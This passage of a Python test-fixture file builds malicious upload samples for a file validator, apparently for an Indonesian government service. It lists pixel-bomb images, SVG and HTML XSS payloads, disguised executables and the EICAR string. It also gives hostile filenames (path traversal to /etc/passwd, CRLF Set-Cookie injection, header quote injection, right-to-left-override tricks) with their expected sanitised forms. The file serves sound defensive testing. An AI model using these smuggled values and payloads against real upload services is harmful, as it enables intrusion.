    ("a WebP header and noise", lambda: b"RIFF" + struct.pack("<I", 100) + b"WEBPVP8 " + b"\x09\0" * 20
     + Random(5).randbytes(200), "a.webp", "damaged"),
    ("a PNG of four thousand million pixels", partial(bomb_png, 65_000, 65_000), "a.png", "too_many_pixels"),
    ("a PNG of a hundred million pixels", partial(bomb_png, 10_000, 10_000), "a.png", "too_many_pixels"),
    ("a PNG of 36 million pixels", partial(bomb_png, 6_000, 6_000), "a.png", "too_many_pixels"),
    ("a PNG as wide as can be", partial(bomb_png, 2_000_000_000, 1), "a.png", "too_many_pixels"),
    ("a JPEG that claims to be far larger", lambda: resized(picture("JPEG"), 65_000, 65_000), "a.jpg",
     "too_many_pixels"),
    ("a JPEG in scans that claims 100 million pixels",
     lambda: resized(picture("JPEG", progressive=True), 10_000, 8_000), "a.jpg", "too_many_pixels"),
    ("a WebP of 256 million pixels", partial(webp_claiming, 16_000), "a.webp", "too_many_pixels"),
    ("a WebP of 64 million pixels", partial(webp_claiming, 8_000), "a.webp", "too_many_pixels"),
    ("a JPEG that claims twice its height", lambda: resized(picture("JPEG"), 320, 4800), "a.jpg", "jpeg"),
    ("a PNG whose text grows without end", partial(png_with_text, b" " * 80_000_000), "a.png", "damaged"),
    ("a PNG whose rows have a wrong checksum", lambda: picture("PNG").replace(b"IDAT", b"IDAX", 1), "a.png",
     "damaged"),
    ("a PNG that moves", partial(animated, "PNG"), "a.png", "animated"),
    ("a WebP that moves", partial(animated, "WEBP"), "a.webp", "animated"),
)


def a_text(text: str) -> PngImagePlugin.PngInfo:
    """A PNG's text."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return info


# -- other things, and lies ----------------------------------------------------------------------------------------

OTHERS: tuple[tuple[str, Callable[[], bytes], str, str, str], ...] = (
    ("nothing", lambda: b"", "a.pdf", PDF, "empty"),
    ("blanks", lambda: b" \r\n\0" * 100, "a.pdf", PDF, "empty"),
    ("one byte too many", lambda: pdf()[:9] + b"\0" * (MOST - 8), "a.pdf", PDF, "too_large"),
    ("an SVG", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "a.svg", "image/svg+xml",
     "not_accepted"),
    ("an SVG with another name", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>', "a.png", PNG,
     "not_accepted"),
    ("a page of HTML", lambda: b"<!doctype html><script>alert(1)</script>", "a.html", "text/html", "not_accepted"),
    ("a page of HTML with another name", lambda: b"<html><script>alert(1)</script>", "a.pdf", PDF, "not_accepted"),
    ("a program", lambda: b"MZ\x90\0" + b"\0" * 500, "a.exe", "application/octet-stream", "not_accepted"),
    ("a program with another name", lambda: b"MZ\x90\0" + b"\0" * 500, "laporan.pdf", PDF, "not_accepted"),
    ("a program of Linux", lambda: b"\x7fELF" + b"\0" * 500, "laporan", "", "not_accepted"),
    ("a GIF", lambda: picture("GIF"), "a.gif", "image/gif", "not_accepted"),
    ("a TIFF", lambda: picture("TIFF"), "a.tif", "image/tiff", "not_accepted"),
    ("an iPhone's picture", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 99, "IMG_1.HEIC", "image/heic",
     "heic"),
    ("an iPhone's picture with another name", lambda: b"\0\0\0\x18ftypmif1\0\0\0\0" + b"\0" * 99, "IMG_1.jpg", JPEG,
     "heic"),
    ("a text", lambda: b"Laporan kegiatan bulan November", "a.txt", "text/plain", "not_accepted"),
    ("a RAR", lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 99, "a.docx", DOCX, "not_accepted"),
    ("an RTF called DOC", lambda: b"{\\rtf1\\ansi Laporan}", "a.doc", "application/msword", "not_accepted"),
    ("the test file of virus scanners", lambda: EICAR, "eicar.com", "application/octet-stream", "not_accepted"),
    ("a PDF called JPEG", pdf, "a.jpg", "", "disguised"),
    ("a PDF declared as JPEG", pdf, "a.pdf", JPEG, "disguised"),
    ("a PDF declared as HTML", pdf, "a.pdf", "text/html", "disguised"),
    ("a PDF called HTML", pdf, "a.html", "", "disguised"),
    ("a PDF called a program", pdf, "laporan.pdf.exe", "", "disguised"),
    ("a PNG called JPEG", lambda: picture("PNG"), "a.jpg", "", "disguised"),
    ("a JPEG declared as SVG", lambda: picture("JPEG"), "a.jpg", "image/svg+xml", "disguised"),
    ("a WebP called PNG", lambda: picture("WEBP"), "a.png", "", "disguised"),
    ("a DOCX called XLSX", docx, "a.xlsx", "", "disguised"),
    ("a DOCX declared with macros", docx, "a.docx", "application/vnd.ms-word.document.macroEnabled.12", "disguised"),
    ("an ending behind a mark that turns the writing", pdf, "laporan\u202efdp.exe", "", "disguised"),
    ("an ending behind a zero byte", pdf, "laporan.pdf\0.exe", "", "disguised"),
)

# Good files with names that mean no good, and what is kept of the names.
NAMES: tuple[tuple[str, str], ...] = (
    ("../../../etc/passwd.pdf", "passwd.pdf"), ("..\\..\\Windows\\win.ini.pdf", "win.ini.pdf"),
    ("/layanan/berkas/a.pdf", "a.pdf"), ("C:\\Users\\Siti\\Desktop\\SK.pdf", "SK.pdf"),
    ("SK\r\nSet-Cookie: a=b.pdf", "SK Set-Cookie_ a=b.pdf"), ('SK"; filename="a.exe.pdf', "SK_; filename=_a.exe.pdf"),
    ("laporan\u202ecod.pdf", "laporancod.pdf"), ("lap\u200boran\ufeff.pdf", "laporan.pdf"),
    ("a\0b\x1b[2J.pdf", "ab[2J.pdf"),
    ("<script>alert(1)</script>.pdf", "script_.pdf"), ("", "berkas.pdf"), ("....", "berkas.pdf"),
    (".pdf", "berkas.pdf"), ("con.pdf", "_con.pdf"), ("NUL", "_NUL.pdf"), ("x" * 400 + ".pdf", "x" * 114 + ".pdf"),
    ("SK 2024", "SK 2024.pdf"),
    ("Surat Keputusan – Ibu Siti.PDF", "Surat Keputusan – Ibu Siti.pdf"), ("%2e%2e%2fa.pdf", "_2e_2e_2fa.pdf"),
    ("\ud800.pdf", "berkas.pdf"), ("   .pdf", "berkas.pdf"), ("a. . .pdf", "a.pdf"),
)


def hostile() -> Iterator[Sample]:
    """Every file that must be refused, and a few that look dangerous but hold nothing."""
    yield from (Sample(f"a PDF with {about}" if verdict != "truncated" else f"a PDF: {about}", make, "a.pdf", verdict,
                       PDF) for about, make, verdict in PDFS)
    for about, make, verdict in OFFICES:
        yield Sample(f"a document with {about}", make, "a.xlsx" if make_is_table(make) else "a.docx", verdict)
    yield from (Sample(about, make, name, verdict) for about, make, name, verdict in PICTURES)
    yield from (Sample(about, make, name, verdict, declared) for about, make, name, declared, verdict in OTHERS)


def make_is_table(make: Callable[[], bytes]) -> bool:
    """Whether this makes an XLSX."""
    return getattr(make, "func", make) is xlsx


def good() -> Iterator[Sample]:
    """Files as people have them."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://kemendesa.go.id) >> >>"
    signed = b"<< /FT /Sig /T (BSrE) /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached >> >>"
    yield from (
        Sample("a plain PDF", pdf, "SK pengangkatan.pdf", "pdf", PDF),
        Sample("a PDF with packed objects", partial(modern_pdf, {9: b"null"}), "a.pdf", "pdf", PDF),
        Sample("a PDF with links", partial(pdf, page=b"/Annots [" + link + b"]"), "a.pdf", "pdf", PDF),
        Sample("a PDF that opens at a page", partial(pdf, catalog=b"/OpenAction [3 0 R /Fit]"), "a.pdf", "pdf", PDF),
        Sample("a PDF that opens at a page by an action",
               partial(pdf, catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"), "a.pdf", "pdf", PDF),
        Sample("a PDF with an electronic signature",
               partial(pdf, catalog=b"/AcroForm << /SigFlags 3 /Fields [5 0 R] >>", changed={5: signed}), "a.pdf",
               "pdf", PDF),
        Sample("a PDF with a second version", partial(updated_pdf, b"<< /Type /Catalog /Pages 2 0 R >>"), "a.pdf",
               "pdf", PDF),
        Sample("a PDF that speaks of scripts", partial(pdf, changed={4: stream(b"BT (JavaScript /JS Launch) Tj ET")}),
               "a.pdf", "pdf", PDF),
        Sample("a PDF padded with zeroes", partial(pdf, behind=b"\0" * 500), "a.pdf", "pdf", PDF),
        Sample("a PDF that nobody declared", pdf, "a", "pdf", "application/octet-stream"),
        Sample("the largest PDF", large_pdf, "pindai.pdf", "pdf", PDF),
        Sample("a photo", lambda: picture("JPEG"), "IMG_1.jpg", "jpeg", JPEG),
        Sample("a photo from a telephone", from_a_phone, "IMG_2.JPEG", "jpeg", JPEG),
        Sample("a photo in scans", lambda: picture("JPEG", progressive=True), "a.jpg", "jpeg", "image/jpg"),
        Sample("a grey photo", lambda: picture("JPEG", drawn(mode="L")), "a.jfif", "jpeg", JPEG),
        Sample("a photo for print", lambda: picture("JPEG", drawn(mode="CMYK")), "a.jpg", "jpeg", JPEG),
        Sample("the largest photo", large_jpeg, "IMG_3.jpg", "jpeg", JPEG),
        Sample("a photo of 50 million pixels", lambda: picture("JPEG", drawn(8160, 6144), quality=80), "a.jpg",
               "jpeg", JPEG),
        Sample("a photo with something of the telephone's behind it",
               lambda: picture("JPEG") + b"SEFHe\0\0\0" + b"\0" * 200 + b"SEFT", "a.jpg", "jpeg", JPEG),
        Sample("a screenshot", lambda: picture("PNG"), "Screenshot.png", "png", PNG),
        Sample("a screenshot one can see through", lambda: picture("PNG", drawn(mode="RGBA")), "a.png", "png", PNG),
        Sample("a scan in black and white", lambda: picture("PNG", drawn(2480, 3508, "1")), "a.png", "png", PNG),
        Sample("a picture with a palette", lambda: picture("PNG", drawn(mode="P")), "a.png", "png", PNG),
        Sample("a PNG from a telephone", partial(from_a_phone, "PNG"), "a.png", "png", PNG),
        Sample("a WebP", lambda: picture("WEBP"), "a.webp", "webp", WEBP),
        Sample("a WebP without loss", lambda: picture("WEBP", lossless=True), "a.webp", "webp", WEBP),
        Sample("a WebP from a telephone", partial(from_a_phone, "WEBP"), "a.webp", "webp", WEBP),
        Sample("a text", docx, "laporan.docx", "docx", DOCX),
        Sample("a text with links", partial(docx, relations=relations(
            ("hyperlink", "https://kemendesa.go.id", "External"), ("hyperlink", "mailto:a@b.example", "External"))),
            "a.docx", "docx", DOCX),
        Sample("a text with a field", partial(docx, body=fields("HYPERLINK ", "https://kemendesa.go.id")), "a.docx",
               "docx", DOCX),
        Sample("a text with a picture", lambda: docx({"word/media/image1.jpg": picture("JPEG")}), "a.docx", "docx",
               DOCX),
        Sample("a text with the table of a chart", lambda: docx({"word/embeddings/Sheet1.xlsx": xlsx()}), "a.docx",
               "docx", DOCX),
        Sample("a table", xlsx, "kegiatan.xlsx", "xlsx", XLSX),
        Sample("a table with settings of a printer", partial(xlsx, {"xl/printerSettings/printerSettings1.bin": b"\0"}),
               "a.xlsx", "xlsx", XLSX),
        Sample("the largest table", large_xlsx, "a.xlsx", "xlsx", XLSX),
    )


def named() -> Iterator[tuple[Sample, str]]:
    """A good file under each of NAMES, with the name that is kept."""
    for typed, kept in NAMES:
        yield Sample(f"a PDF called {typed!r}", pdf, typed, "pdf"), kept
